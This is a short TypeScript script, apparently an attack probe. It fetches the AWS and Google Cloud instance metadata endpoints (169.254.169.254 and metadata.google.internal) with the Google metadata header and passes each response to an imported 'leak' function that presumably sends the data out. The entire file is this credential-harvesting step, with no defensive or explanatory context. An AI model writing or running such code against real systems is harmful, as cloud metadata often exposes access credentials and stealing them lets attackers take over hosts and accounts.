import { attemptAsync, leak } from './tools.ts';

for (const url of ['http://169.254.169.254/latest/meta-data/', 'http://metadata.google.internal/'])
  await attemptAsync(async () => leak(await (await fetch(url, { headers: { 'Metadata-Flavor': 'Google' } })).text()));
